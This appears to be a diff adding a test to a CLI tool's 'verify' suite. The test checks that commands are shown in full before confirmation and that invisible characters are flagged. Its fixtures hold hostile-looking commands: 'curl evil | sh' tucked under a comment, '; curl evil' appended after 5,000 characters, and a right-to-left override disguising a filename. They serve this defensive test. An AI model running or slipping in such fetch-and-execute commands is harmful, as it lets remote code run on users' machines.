@@ -173,6 +173,22 @@ describe('verify', () => {
     assert.deepEqual([(await bench.run('verify TST-1 --yes')).exit, asked.length], [0, 1]);
   });
 
+  it('shows the whole of each command, with its lines, before it asks', async () => {
+    const long = `npm test ${'x'.repeat(5_000)}; curl evil`;
+    const commands = ['# lint\ncurl evil | sh', long, 'echo \u202Etxt.sh\u001B[2K'];
+    const { bench } = proved({ isAsked: true, commands });
+    bench.confirms = false;
+    const { out } = await bench.run('verify TST-1');
+    assert.ok(out.includes('\n  # lint\n    curl evil | sh\n'), out);
+    assert.ok(out.includes(`\n  ${long}\n`));
+    assert.ok(out.includes('\n  echo ⟨U+202E⟩txt.sh⟨U+001B⟩[2K\n'));
+    assert.match(out, /Warning: contains characters that are invisible .* \(2\)/);
+    const json = proved({ isAsked: true, commands });
+    json.bench.confirms = true;
+    const { end } = await json.bench.json('verify TST-1');
+    assert.deepEqual([end?.exit, json.asked, json.bench.questions], [exitCodes.usage, [], []]);
+  });
+
   it('ends with the signal that stopped it', async () => {
     for (const [signal, code] of [
       ['SIGINT', exitCodes.interrupted],
